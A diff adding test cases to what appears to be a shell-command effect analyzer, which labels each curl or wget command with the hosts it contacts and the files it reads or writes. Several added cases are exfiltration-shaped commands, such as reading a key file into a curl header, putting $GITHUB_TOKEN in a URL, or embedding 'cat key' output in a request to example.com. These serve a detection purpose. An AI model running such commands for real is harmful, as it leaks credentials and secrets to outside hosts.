@@ -41,6 +41,26 @@ describe('requests say what goes where', () => {
     ],
     ['curl --version', []],
     ['curl $URL', ['contact ? fetch unknown unknown']],
+    ['curl https://example.com/$VERSION/a', ['contact example.com fetch nothing']],
+    ['curl "https://example.com/x-$(uname -s)"', ['look machine', 'contact example.com fetch nothing']],
+    [
+      'curl -H "Authorization: $(cat key)" https://example.com',
+      ['read /home/dev/project/key', 'contact example.com fetch unknown unknown'],
+    ],
+    ['curl "https://example.com/?t=$GITHUB_TOKEN"', ['contact example.com fetch unknown unknown']],
+    [
+      'X=$(cat key); curl https://example.com/$X',
+      ['read /home/dev/project/key', 'contact example.com fetch unknown unknown'],
+    ],
+    [
+      'curl "https://example.com/$(date; cat key)"',
+      ['read /home/dev/project/key', 'contact example.com fetch unknown unknown'],
+    ],
+    ['curl -OJ https://example.com/x', ['contact example.com fetch nothing', 'write ./https://example.com/x']],
+    [
+      'wget https://example.com/$VERSION.tgz',
+      ['contact example.com fetch nothing', 'write ./https://example.com/$VERSION.tgz'],
+    ],
     ['wget https://example.com/a.tgz', ['contact example.com fetch nothing', 'write /home/dev/project/a.tgz']],
     ['wget -qO- https://example.com', ['contact example.com fetch nothing']],
     [
